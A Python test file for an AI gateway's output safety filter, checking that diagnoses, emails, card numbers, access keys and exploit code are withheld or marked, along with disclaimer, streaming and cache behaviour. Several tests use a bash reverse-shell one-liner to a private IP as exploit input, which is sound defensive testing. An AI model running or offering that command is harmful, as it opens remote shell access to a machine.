"""An answer goes out as `safety` wants it: looked at by sentences, with the words that close it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from router.policy.sections.safety import MARKED, WITHHELD, OutputCheck
from router.request.outgoing import MOST_HELD, Window
from router.types import (
    Delta,
    Domain,
    Hints,
    Identity,
    Outcome,
    Reason,
    ResponseFormat,
    Sampling,
    Scope,
    Verdict,
)
from tests.kits.changed import replace
from tests.kits.checks.growth import in_proportion
from tests.kits.fakes import ALICE, Houses, ask
from tests.kits.gateway_kit import THROUGH, UNSURE, deep, drain, low, mid

CLOSING = "General information, no medical advice."
ILL = "Thanks for asking. You probably have pneumonia. Rest a lot. "


def check(name: str, action: str) -> OutputCheck:
    return OutputCheck.model_validate({"check": name, "action": action})


def let_out(text: str, *checks: OutputCheck, known: str = "", closing: str = "") -> str:
    window = Window(checks, known, closing)
    return window.feed(text) + window.rest()


def test_rest_is_withheld_from_the_sentence_on() -> None:
    assert let_out(ILL, check("diagnosis", "withhold")) == f"Thanks for asking. {WITHHELD}"


def test_marked_answer_stays_whole_with_words_at_its_end() -> None:
    assert let_out(ILL, check("diagnosis", "mark")) == f"{ILL}\n\n{MARKED}"


@pytest.mark.parametrize(
    ("text", "closed"),
    [
        ("Drink water.", True),
        (f"Drink water. {CLOSING}", False),
        ("", False),
    ],
)
def test_closing_words_are_added_once(text: str, closed: bool) -> None:
    out = let_out(text, closing=CLOSING)
    assert out == (f"{text}\n\n{CLOSING}" if closed else text)


@pytest.mark.parametrize(
    ("name", "text", "known", "withheld"),
    [
        ("personal", "Write to ann@acme.io now.", "", True),
        ("personal", "Write to ann@acme.io now.", "I am Ann@acme.io", False),
        ("personal", "Write to you@example.com now.", "", False),
        ("personal", "It is 4111 1111 1111 1111.", "", True),
        ("personal", "It is 4111 1111 1111 1112.", "", False),
        ("personal", "It is 4111 1111 1111 1111.", "4111-1111-1111-1111", False),
        ("secrets", "Use AKIAABCDEFGHIJKLMNOP there.", "", True),
        ("secrets", "Use AKIAABCDEFGHIJKLMNOP there.", "AKIAABCDEFGHIJKLMNOP", False),
        ("secrets", "A key looks like sk-...", "", False),
        ("exploit", "Run bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "", True),
        ("exploit", "Run ls -l /dev/null", "", False),
        ("diagnosis", "You have bronchitis.", "", True),
        ("diagnosis", "Your diagnosis is type two diabetes.", "", True),
        ("diagnosis", "You have options.", "", False),
        ("diagnosis", "Do you have asthma in the family?", "", False),
        ("diagnosis", "If you have diabetes, ask your doctor.", "", False),
        ("diagnosis", "People with pneumonia cough.", "", False),
    ],
)
def test_only_what_gives_something_away_is_withheld(
    name: str, text: str, known: str, withheld: bool
) -> None:
    out = let_out(text, check(name, "withhold"), known=known)
    assert (out == WITHHELD) is withheld
    assert withheld or out == text


def test_nothing_goes_out_before_its_sentence_is_complete() -> None:
    window = Window([check("diagnosis", "withhold")], "", "")
    assert window.feed("You have pneu") == ""
    assert window.feed("monia. And") == WITHHELD
    assert window.feed(" more.") + window.rest() == ""


def test_text_without_an_end_is_held_no_longer_than_stated() -> None:
    window = Window([check("secrets", "withhold")], "", "")
    assert len(window.feed("word " * MOST_HELD)) > MOST_HELD


@given(
    st.lists(
        st.sampled_from(
            [
                "Hello there. ",
                "You have pneumonia. ",
                "a@b.co ",
                "x" * 30,
                "\n",
                "word " * 450,
                "Ende! ",
                "。",
                "3.14 ",
            ]
        ),
        max_size=12,
    ),
    st.lists(st.integers(1, 40), min_size=1, max_size=8),
    st.sampled_from(["mark", "withhold"]),
)
def test_stream_says_the_same_as_a_whole_answer(
    parts: list[str], sizes: list[int], action: str
) -> None:
    text = "".join(parts)
    checks = [check("diagnosis", action), check("personal", action)]
    window = Window(checks, "", CLOSING)
    out, at, turn = "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += window.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    assert out + window.rest() == let_out(text, *checks, closing=CLOSING)


EVERY = [check(name, "mark") for name in ("secrets", "personal", "diagnosis", "exploit")]


def test_answer_of_short_sentences_is_looked_at_in_proportion_to_its_length() -> None:
    assert in_proportion(lambda text: let_out(text, *EVERY), "\n", times=400, limit=2.5)


@pytest.mark.parametrize(
    "line",
    [
        "Write to ann@acme.io.\n",
        "Pay with 4111 1111 1111 1111.\n",
        "Use AKIAABCDEFGHIJKLMNOP here.\n",
    ],
)
def test_request_is_searched_once_however_many_sentences_hold_its_values(line: str) -> None:
    assert in_proportion(lambda text: let_out(text, *EVERY, known=text), line, times=16)


# -- through the gateway --------------------------------------------------------------------------

KEY = "AKIAABCDEFGHIJKLMNOP"
LEAKS = f"Here it is. The key is {KEY} for all. Bye now."
SECRETS = {"outputs": [{"check": "secrets"}]}
MEDICAL = replace(UNSURE, domain=Domain.MEDICAL, domain_p=0.95)


def streamed(events: list[object]) -> str:
    return "".join(event.text for event in events if isinstance(event, Delta))


async def test_whole_answer_is_withheld_from_the_secret_on(houses: Houses) -> None:
    house = houses([low(), mid(text=LEAKS), deep()], signals=UNSURE, safety=SECRETS)
    outcome = await house.gateway.complete(ask(), ALICE)
    assert outcome.answer is not None
    assert outcome.answer.text == f"Here it is. {WITHHELD}"
    assert outcome.verdict is Verdict.UNVERIFIED
    assert outcome.reason is Reason.ANSWER_WITHHELD


async def test_stream_never_holds_the_secret(houses: Houses) -> None:
    tiers = [low(), mid(text=LEAKS), deep()]
    house = houses(tiers, signals=UNSURE, safety=SECRETS, verify_mid=THROUGH)
    events = await drain(house, ask(stream=True))
    assert streamed(events) == f"Here it is. {WITHHELD}"
    outcome = events[-1]
    assert isinstance(outcome, Outcome)
    assert outcome.verdict is Verdict.UNVERIFIED
    assert outcome.answer is not None
    assert outcome.answer.text == streamed(events)


async def test_short_stream_without_an_end_goes_out_whole(houses: Houses) -> None:
    tiers = [low(), mid(text="one two"), deep()]
    house = houses(tiers, signals=UNSURE, safety=SECRETS, verify_mid=THROUGH)
    assert streamed(await drain(house, ask(stream=True))) == "one two"


@pytest.mark.parametrize("stream", [False, True])
async def test_higher_rung_is_asked_and_the_leak_is_sent_nowhere(
    houses: Houses, stream: bool
) -> None:
    safety = {"outputs": [{"check": "secrets", "action": "climb"}]}
    tiers = [low(), mid(text=LEAKS), deep(text="Ask your admin.")]
    signals = replace(UNSURE, impact_nano_usd=2_000 * 10**9)
    thetas = {"mid": 5.0, "deep": 5.0}
    house = houses(tiers, signals=signals, safety=safety, thetas=thetas, verify_mid=THROUGH)
    if stream:
        text = streamed(await drain(house, ask(stream=True)))
    else:
        outcome = await house.gateway.complete(ask(), ALICE)
        assert outcome.answer is not None
        text = outcome.answer.text
    assert text == "Ask your admin."


@pytest.mark.parametrize("stream", [False, True])
async def test_disclaimer_of_the_domain_closes_the_answer(houses: Houses, stream: bool) -> None:
    safety = {"disclaimers": {"medical": CLOSING}}
    tiers = [low(), mid(text="Carrots have beta carotene."), deep()]
    house = houses(tiers, signals=MEDICAL, safety=safety, verify_mid=THROUGH)
    if stream:
        text = streamed(await drain(house, ask(stream=True)))
    else:
        outcome = await house.gateway.complete(ask(), ALICE)
        assert outcome.answer is not None
        text = outcome.answer.text
    assert text == f"Carrots have beta carotene.\n\n{CLOSING}"


async def test_json_gets_no_disclaimer(houses: Houses) -> None:
    safety = {"disclaimers": {"medical": CLOSING}}
    house = houses([low(), mid(text='{"a": 1}'), deep()], signals=MEDICAL, safety=safety)
    request = ask(response_format=ResponseFormat("json_object"))
    outcome = await house.gateway.complete(request, ALICE)
    assert outcome.answer is not None
    assert outcome.answer.text == '{"a": 1}'


ATTACK = "Look for bash -i >& /dev/tcp/10.0.0.1/4444 in the log."
DEFENDER = replace(ALICE, scopes=ALICE.scopes | {Scope.SECURITY})


async def test_defender_gets_code_of_an_attack(houses: Houses) -> None:
    safety = {"outputs": [{"check": "exploit"}]}
    house = houses([low(), mid(text=ATTACK), deep()], signals=UNSURE, safety=safety)
    outcome = await house.gateway.complete(ask(), DEFENDER)
    assert outcome.answer is not None
    assert outcome.answer.text == ATTACK


async def test_what_a_defender_got_is_no_cached_answer_for_others(houses: Houses) -> None:
    safety = {"outputs": [{"check": "exploit"}]}
    house = houses([low(), mid(text=ATTACK), deep()], signals=UNSURE, safety=safety)
    request = ask(sampling=Sampling(temperature=0.0))
    found = []
    for who in (DEFENDER, ALICE, DEFENDER):
        outcome = await house.gateway.complete(request, who)
        assert outcome.answer is not None
        found.append((outcome.cache, ATTACK in outcome.answer.text))
        await house.gateway.drain()
    assert found == [("miss", True), ("miss", False), ("exact", True)]


@pytest.mark.parametrize(
    ("hints", "cache"),
    [
        (Hints(stakes_nano_usd=1), "miss"),
        (Hints(max_tier=2), "miss"),
        (Hints(), "exact"),
    ],
)
async def test_an_answer_of_lowered_hints_is_not_kept_for_others(
    houses: Houses, hints: Hints, cache: str
) -> None:
    house = houses([low(), mid(), deep()], signals=UNSURE)
    request = ask(sampling=Sampling(temperature=0.0), hints=hints)
    lowering: Identity = replace(ALICE, scopes=ALICE.scopes | {Scope.HINTS_LOWER})
    await house.gateway.complete(request, lowering)
    await house.gateway.drain()
    assert (await house.gateway.complete(request, ALICE)).cache == cache


@pytest.mark.parametrize(("rule", "pieces"), [({}, 1), ({"hard_rule": "none"}, 3)])
async def test_what_a_trigger_lifts_comes_in_one_piece_unless_the_policy_says_otherwise(
    houses: Houses, rule: dict[str, str], pieces: int
) -> None:
    lifted = replace(UNSURE, impact_nano_usd=6_000 * 10**9)
    house = houses([low(), mid(text="one two three")], signals=lifted, verify_mid=THROUGH | rule)
    said = [e for e in await drain(house, ask(stream=True)) if isinstance(e, Delta) and e.text]
    assert len(said) == pieces
